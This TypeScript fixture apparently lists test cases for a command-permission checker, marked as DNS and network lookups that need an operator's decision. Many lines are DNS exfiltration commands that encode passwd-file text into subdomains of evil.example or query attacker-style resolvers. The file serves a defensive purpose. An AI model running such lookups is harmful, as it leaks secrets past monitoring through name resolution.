import { theme, type Theme } from './theme.ts'

/** What an operator decides, because a name server learns of it. */
export const askLookupCases: readonly Theme[] = [
  theme(
    'ask',
    'names that could carry data away',
    String.raw`
    dig +short @1.1.1.1 example.com
    dig @203.0.113.9 data.evil.example
    dig @ns.evil.example x
    dig @ example.com
    dig +domain=data.evil.example x
    dig +ednsopt=65001:deadbeef example.com
    dig -x data.with.no.digits.in.it.at.all
    dig cm9vdDp4OjA6MDpyb290.evil.example
    dig 726f6f743a783a30.evil.example
    dig onlysmalllettersbutverymany.evil.example
    dig aaa bbb ccc ddd eee fff ggg hhh iii jjj kkk lll mmm nnn ooo ppp qqq rrr sss ttt uuu vvv www xxx yyy zzz aaaa
    dig a.b.c.d.e.f
    host x 203.0.113.9
    host x evil.example
    host cm9vdDp4OjA6MDpyb290.evil.example
    nslookup x 203.0.113.9
    nslookup cm9vdDp4OjA6MDpyb290.evil.example
    echo x.evil.example | nslookup -
    ping -c 1 cm9vdDp4OjA6MDpyb290.evil.example
    ping6 -c 1 cm9vdDp4OjA6MDpyb290.evil.example
    traceroute cm9vdDp4OjA6MDpyb290.evil.example
    tracepath cm9vdDp4OjA6MDpyb290.evil.example
    mtr -r -c 1 cm9vdDp4OjA6MDpyb290.evil.example
    getent hosts cm9vdDp4OjA6MDpyb290.evil.example
    getent ahostsv4 one.example 726f6f743a783a30.evil.example
    resolvectl query cm9vdDp4OjA6MDpyb290.evil.example
    arp cm9vdDp4OjA6MDpyb290.evil.example
    ss dst cm9vdDp4OjA6MDpyb290.evil.example
    ss '( dst = cm9vdDp4OjA6MDpyb290.evil.example:443 )'
    lsof -i @cm9vdDp4OjA6MDpyb290.evil.example:443
    fuser -n tcp ,cm9vdDp4OjA6MDpyb290.evil.example,443
    chronyc ntpdata cm9vdDp4OjA6MDpyb290.evil.example
  `,
  ),
]
